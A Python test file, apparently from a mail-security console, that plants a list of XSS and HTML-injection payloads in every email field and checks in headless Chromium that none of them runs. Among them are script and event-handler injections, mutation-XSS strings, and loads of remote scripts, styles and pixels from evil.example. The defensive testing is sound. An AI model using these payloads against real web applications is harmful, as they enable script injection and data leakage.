"""Hostile mail in a real browser: whatever stands in whichever field of a mail, the console shows it and runs none of it.

Every payload stands in each field that pages show: subject, names and addresses of sender and recipients, header values,
names of attachments, bodies, texts and targets of links, and macros. The pages are then opened in Chromium; a dialog, a
console message, a request that leaves the console or the sentinel ``window.__hit`` fails the test. Besides our own list,
a sample of public lists is taken when they lie beside the project; SEKISHO_ALL_PAYLOADS=1 takes all of them, which is
a matter of many minutes.
"""

import base64
import contextlib
import html
import importlib.util
import os
import random
import re
import signal
import socket
import threading
import time
from pathlib import Path
from urllib.parse import quote, unquote_plus

import pytest

from sekisho.app.console import messages
from sekisho.app.console.messages import Choice

HERE = Path(__file__)
SPEC = importlib.util.spec_from_file_location("mail_desk", HERE.parents[1] / "app" / "console" / "mail_desk.py")
mail_desk = importlib.util.module_from_spec(SPEC)
SPEC.loader.exec_module(mail_desk)
LISTS = HERE.parents[3] / "shared" / "data" / "weblogs"
CHROMIUM = Path("/usr/bin/chromium")
FLAGS = (
    "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking "
    "--disable-component-update --disable-sync"
).split()
PACKED = 30  # payloads in one mail
LONGEST_S = 3_600 if os.environ.get("SEKISHO_ALL_PAYLOADS") else 600
SAMPLE = 30  # of the public lists
HIT = "window.__hit=(window.__hit||0)+1;alert(1)"
OURS = (
    f"<script>{HIT}</script>",
    f"</title></textarea></style></script><script>{HIT}</script>",
    f'"><script>{HIT}</script>',
    f"'><img src=x onerror={HIT}>",
    f"<img src=x onerror={HIT}>",
    f"<svg/onload={HIT}>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>{HIT}</script>'></iframe>",
    f"<iframe src='javascript:{HIT}'></iframe>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={HIT}>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={HIT}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'></noscript>",
    f"<form action='javascript:{HIT}'><button autofocus>x</button></form>",
    f"javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/a.css><base href=http://evil.example/>",
    "<style>@import url(http://evil.example/b.css);*{background:url(http://evil.example/c)}</style>",
    "<img src=http://evil.example/pixel.gif><img srcset='http://evil.example/p2 1x'>",
    "<table background=http://evil.example/t><body background=http://evil.example/u>",
    "<script src=http://evil.example/order.js></script>",
    "{{ 7 * 7 }}{% include 'base.html' %}${7*7}<%= 7 %>",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    f"<div hx-get='http://evil.example/h' hx-trigger=load hx-on:load='{HIT}'>x</div>",
    f"<p data-chart='{{\"x\":1}}' data-graph='[]' data-copy='{HIT}' data-live='http://evil.example/'>x</p>",
    f"\u2028<scr\u00adipt>{HIT}</script>\u202e\u0000",
    f"＜script＞{HIT}＜/script＞ +ADw-script+AD4-{HIT}+ADw-/script+AD4-",
)


def public():
    """Give the payloads of the public lists, as written and decoded; none where they are not."""
    found = {}
    for path in sorted((LISTS / "libinjection").glob("*.txt")):
        for line in path.read_text("utf-8", "replace").splitlines():
            if line.strip() and not line.startswith("#"):
                found[line.strip()] = None
                found[unquote_plus(line.strip(), errors="replace")] = None
    for path in sorted((LISTS / "crs-941").rglob("*.yaml")):
        for line in re.findall(r"^\s+(?:uri|data):\s*(.+)$", path.read_text("utf-8", "replace"), re.MULTILINE):
            text = unquote_plus(line.strip("\"' ").replace('\\"', '"'), errors="replace")
            found[text.partition("=")[2] or text] = None
    return [one[:2_000] for one in found if one]


def word(text):
    """Give a header value as an encoded word."""
    return b"=?utf-8?B?" + base64.b64encode(text.encode("utf-8", "replace")) + b"?="


def part(kind, content, extra=b""):
    """Give a body part."""
    head = b"Content-Type: " + kind + b"\r\nContent-Transfer-Encoding: base64\r\n" + extra
    return head + b"\r\n" + base64.encodebytes(content) + b"\r\n"


def named(payload):
    """Give a line that names an attachment."""
    name = quote(payload.encode("utf-8", "replace"), safe="").encode()
    return b"Content-Disposition: attachment; filename*=utf-8''" + name + b"\r\n"


def small(number, payload):
    """Give a mail with a payload in what lists and heads show."""
    raw = payload.replace("\r", " ").replace("\n", " ").encode("utf-8", "replace")
    return b"\r\n".join(
        [
            b"Received: from " + raw + b" (x [203.0.113.9]) by mx.corp.example; Thu, 19 May 2022 09:00:00 +0000",
            b"Authentication-Results: mx.corp.example; spf=pass smtp.mailfrom=" + raw + b"; dkim=fail header.d=" + raw,
            b"From: " + word(payload) + b" <" + str(number).encode() + b"@evil.example>",
            b"To: " + word(payload) + b' <user01@corp.example>, "' + raw.replace(b'"', b"'") + b'"@corp.example',
            b"Reply-To: <" + raw + b"@evil.example>",
            b"Subject: " + (word(payload) if number % 2 else raw),
            b"Message-ID: <" + raw + b">",
            b"In-Reply-To: <" + raw + b"@x>",
            b"Content-Type: text/plain; charset=utf-8",
            b"",
            raw,
            b"http://evil.example/" + raw,
            b"",
        ]
    )


def packed(number, payloads):
    """Give a mail with many payloads: headers, bodies each on its own, links, names of attachments, a macro."""
    links = "".join(
        f'<p><a href="{html.escape(one)}">x</a> <a href="http://evil.example/?{html.escape(one)}">{one}</a></p>'
        for one in payloads
    )
    script = "\r\n".join(f'WScript.Echo "{one}" & "x"' for one in payloads).encode("utf-8", "replace")
    parts = [part(b"text/html; charset=utf-8", one.encode("utf-8", "replace")) for one in payloads]
    parts.append(part(b"text/html; charset=utf-8", links.encode("utf-8", "replace")))
    parts += [part(word(one), b"text\n", named(one)) for one in payloads]
    parts.append(part(b"application/octet-stream", script, b'Content-Disposition: attachment; filename="run.vbs"\r\n'))
    head = [b"From: a@evil.example", b"To: user01@corp.example", b"Subject: packed " + str(number).encode()]
    head += [b"X-Hostile-" + str(at).encode() + b": " + word(one) for at, one in enumerate(payloads)]
    head += [b"MIME-Version: 1.0", b'Content-Type: multipart/mixed; boundary="edge"', b"", b""]
    return b"\r\n".join(head) + b"".join(b"--edge\r\n" + one for one in parts) + b"--edge--\r\n"


def mails(payloads):
    """Give mails by file name."""
    made = {f"s{at}.eml": small(at, one) for at, one in enumerate(payloads)}
    for at in range(0, len(payloads), PACKED):
        made[f"p{at}.eml"] = packed(at, payloads[at : at + PACKED])
    return made


@contextlib.contextmanager
def served(desk):
    """Serve a desk and give its address."""
    import uvicorn

    from sekisho.app.web.server import create

    held = socket.socket()
    held.bind(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(create(desk), log_level="error", timeout_graceful_shutdown=1))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [held]})
    thread.start()
    try:
        while not server.started:
            time.sleep(0.02)
        yield f"http://127.0.0.1:{held.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join()
        held.close()


class Watched:
    """A page, and everything on it that should not be."""

    def __init__(self, context, base):
        self.base, self.bad, self.seen = base, [], 0
        self.page = context.new_page()
        self.page.on("dialog", self._dialog)
        self.page.on("console", lambda told: self.bad.append(f"console: {told.text[:300]}"))
        self.page.on("pageerror", lambda error: self.bad.append(f"error: {error}"))
        self.page.on("request", self._request)
        self.page.on("popup", lambda opened: self.bad.append(f"popup: {opened.url}"))

    def _dialog(self, dialog):
        self.bad.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _request(self, request):
        if not request.url.startswith((f"{self.base}/", "data:")):
            self.bad.append(f"request: {request.url[:300]}")

    def visit(self, path, settled=""):
        """Open a page, and see that nothing on it acted."""
        answer = self.page.goto(self.base + path, wait_until="load")
        assert answer.status == 200, (path, answer.status)
        if settled:
            self.page.wait_for_selector(settled, state="attached", timeout=20_000)
        hit = [frame.evaluate("window.__hit") for frame in self.page.frames if frame == self.page.main_frame]
        self.seen += self.page.content().count("window.__hit")
        assert not self.bad, (path, self.bad)
        assert hit == [None], path
        assert self.page.url == answer.url


def elsewhere(desk, case):
    """Give the pages beside those of messages that show what a mail holds."""
    yield from ("/", "/cases", f"/cases/{case}", "/incidents", "/hunt", "/campaigns", "/indicators", "/reported")
    yield from (f"/search?q={quote(one)}" for one in ("script", "hit", "evil.example", "packed"))
    rows = desk.database.all("SELECT kind, value FROM entities WHERE value LIKE '%<%' OR value LIKE '%script%'")
    for row in random.Random(2).sample(rows, min(12, len(rows))):
        yield f"/entities/{row['kind']}?value={quote(row['value'], safe='')}"


def read_everything(watched, desk, case, every=20):
    """Open the lists, and every page of each packed mail and of one small mail in so many."""
    count = messages.counted(desk.database, Choice())
    for page in range(1, (count - 1) // 50 + 2):
        watched.visit(f"/messages?page={page}")
    watched.visit("/messages?unscanned=1")
    for path in elsewhere(desk, case):
        if watched.page.request.get(watched.base + path).status == 200:
            watched.visit(path)
    listed = messages.listed(desk.database, Choice(), messages.MOST_LISTED)
    whole = [one for one in listed if one.address.rpartition("/")[2].startswith("p")]
    assert whole
    for one in whole + [one for one in listed if one not in whole][::every]:
        path = f"/messages/{one.id}"
        for view in ("content", "links", "parts", "related"):
            watched.visit(f"{path}?view={view}")
        watched.visit(f"{path}?view=headers", "div[hx-get] h2, div[hx-get] .bad")
        for kind in ("html", "text"):
            watched.visit(f"{path}/body?as={kind}")
            assert "could not be read" not in watched.page.inner_text("body")
        scripts = [part for part in messages.get(desk.database, one.id).tree if part["name"] == "run.vbs"]
        for found in scripts:
            watched.visit(f"{path}/parts/{found['id']}")


def test_nothing_in_a_mail_runs_in_the_console(tmp_path):
    playwright = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
    if not CHROMIUM.exists():
        pytest.skip(f"no browser at {CHROMIUM}")
    lists = public()
    if not os.environ.get("SEKISHO_ALL_PAYLOADS"):
        lists = random.Random(11).sample(lists, min(SAMPLE, len(lists)))
    signal.setitimer(signal.ITIMER_REAL, LONGEST_S)  # the usual end of a test that hangs is too soon for a browser
    payloads = [*OURS, *lists]
    desk, case = mail_desk.desk_with(tmp_path, mails(payloads))
    with served(desk) as base, playwright.sync_playwright() as started:
        browser = started.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS)
        context = browser.new_context(viewport={"width": 1280, "height": 900})
        watched = Watched(context, base)
        watched.page.goto(f"{base}/start?key={desk.key}")
        read_everything(watched, desk, case)
        browser.close()
    assert watched.seen > len(payloads)  # they were on the pages, as text
    if not lists:
        pytest.skip("our own payloads are inert; the public lists are not beside the project (weblogs)")


def test_the_watch_sees_what_acts(tmp_path):
    playwright = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
    if not CHROMIUM.exists():
        pytest.skip(f"no browser at {CHROMIUM}")
    with playwright.sync_playwright() as started:
        browser = started.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS)
        watched = Watched(browser.new_context(), "http://127.0.0.1:1")
        watched.page.set_content("".join(OURS[3:6]) + OURS[21])
        watched.page.wait_for_timeout(300)
        assert any(one.startswith("dialog") for one in watched.bad)
        assert any("evil.example" in one for one in watched.bad)
        assert watched.page.evaluate("window.__hit") >= 1
        browser.close()
